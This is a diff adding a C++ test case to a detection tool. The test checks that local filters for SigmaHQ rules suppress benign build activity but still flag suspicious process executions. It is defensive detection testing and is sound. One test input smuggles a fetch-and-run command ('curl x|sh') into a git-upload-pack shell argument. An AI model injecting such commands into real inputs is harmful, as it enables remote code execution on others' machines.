@@ -7,6 +7,7 @@
 #include <doctest/doctest.h>
 #include <yaml-cpp/yaml.h>
 
+#include <filesystem>
 #include <map>
 #include <set>
 #include <string>
@@ -15,6 +16,7 @@
 #include "collector/detect/sigma/load.h"
 #include "collector/detect/sigma/match.h"
 #include "collector/detect/sigma/prefilter.h"
+#include "common/fs.h"
 #include "tests/common/test_util.h"
 #include "tests/detect/sigma_fields.h"
 
@@ -370,4 +372,58 @@ TEST_CASE("the literal prefilter gives the engine's answers, also where RE2 fold
                                                                       "CTL"})),
                                 &prefilter)));
   CHECK(!matches(r, CachedFields(EventFields(exec_event("/usr/bin/x", {"kubectl"})), &prefilter)));
+}
+
+TEST_CASE("our filters for SigmaHQ rules (collector/detect/sigmahq-filters) leave out the benign build only") {
+  // Loaded with SigmaHQ's rules in one set, as `serve --rules A --rules B` does.
+  RuleSet set;
+  const std::string src = bt::testing::env_or("BUILDTRAIL_SRC", ".");
+  std::vector<std::string> files;
+  for (const std::string& dir : {rules_dir(), src + "/collector/detect/sigmahq-filters"})
+    for (const auto& entry : std::filesystem::recursive_directory_iterator(dir))
+      if (entry.path().extension() == ".yml") files.push_back(entry.path().string());
+  for (const auto& file : files) load_text(bt::fs::read_file(file, 1 << 20).value(), file, builtin_pipeline(), set);
+  finish(set);
+  CHECK(set.filters.size() == 3);
+  for (const auto& r : set.rejected) CHECK_MESSAGE(r.file.find("sigmahq-filters") == std::string::npos, r.reason);
+  auto rule = [&](const std::string& id) -> const Rule& {
+    for (const auto& r : set.rules)
+      if (r.id == id) return r;
+    FAIL("no rule ", id);
+    return set.rules.front();
+  };
+  // The process table: the parent (git), and the writers of programs.
+  const auto table = [](std::string_view key) -> std::optional<ProcessInfo> {
+    if (key == "1-1") return ProcessInfo{"/usr/bin/git", {"git", "clone", "file:///tmp/r.git"}, 0};
+    if (key == "2-1") return ProcessInfo{"/usr/bin/x86_64-linux-gnu-ld.bfd", {"/usr/bin/ld"}, 0};
+    if (key == "3-1") return ProcessInfo{"/usr/bin/curl", {"curl", "-o", "/tmp/x"}, 0};
+    return std::nullopt;
+  };
+  auto written_by = [](bt::events::Event e, const std::string& key) {
+    std::get<bt::events::ProcessExec>(e.body).written_by = key;
+    return e;
+  };
+  {
+    const Rule& r = rule("312b42b1-bded-4441-8b58-163a3af58775");  // Execution From Tmp Folder
+    const auto conftest = exec_event("/tmp/ws/build/conftest", {"./conftest"});
+    CHECK(!matches(r, EventFields(written_by(conftest, "2-1"), table)));
+    CHECK(matches(r, EventFields(written_by(conftest, "3-1"), table)));
+    CHECK(matches(r, EventFields(conftest, table)));
+  }
+  {
+    const Rule& r = rule("30bcce26-51c5-49f2-99c8-7b59e3af36c7");  // shell -c with /tmp/
+    const std::string upload = "git-upload-pack '/tmp/ci/r.git'";
+    CHECK(!matches(r, EventFields(exec_event("/usr/bin/dash", {"/bin/sh", "-c", upload, upload}), table)));
+    const std::string evil = "git-upload-pack '/tmp/ci/r.git'; curl x|sh; '";
+    CHECK(matches(r, EventFields(exec_event("/usr/bin/dash", {"/bin/sh", "-c", evil, upload}), table)));
+    CHECK(matches(r, EventFields(exec_event("/usr/bin/dash", {"/bin/sh", "-c", "/tmp/x"}), table)));
+  }
+  {
+    const Rule& r = rule("86157017-c2b1-4d4a-8c33-93b8e67e4af4");  // sensitive file change
+    const std::string program =
+        "\n\n:t\n/@[a-zA-Z_][a-zA-Z_0-9]*@/!b\ns|@configure_input@|Makefile.  Generated from Makefile.in by "
+        "configure.|;t t\ns&@INSTALL@&/usr/bin/install -c&;t t\n";
+    CHECK(!matches(r, EventFields(exec_event("/usr/bin/sed", {"sed", program}), table)));
+    CHECK(matches(r, EventFields(exec_event("/usr/bin/sed", {"sed", "-i", "s/a/b/", "/usr/bin/x"}), table)));
+  }
 }
